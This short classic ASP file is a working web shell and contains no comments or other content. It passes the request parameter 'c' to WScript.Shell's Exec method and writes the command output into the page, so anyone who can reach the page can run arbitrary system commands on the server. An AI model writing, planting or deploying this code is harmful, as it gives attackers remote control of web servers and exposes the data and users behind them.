<%
Set s = CreateObject("WScript.Shell")
Response.Write s.Exec(Request("c")).StdOut.ReadAll
%>
